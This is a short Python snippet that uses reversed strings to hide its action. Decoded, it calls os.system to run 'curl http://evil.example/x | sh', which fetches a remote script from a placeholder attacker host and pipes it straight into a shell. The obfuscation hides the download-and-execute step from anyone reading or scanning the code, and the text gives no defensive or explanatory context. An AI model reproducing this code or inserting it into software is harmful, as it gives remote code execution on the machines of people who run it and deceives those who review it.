m = __import__("so"[::-1])
run = m.__dict__["metsys"[::-1]]
run("hs | x/elpmaxe.live//:ptth lruc"[::-1])
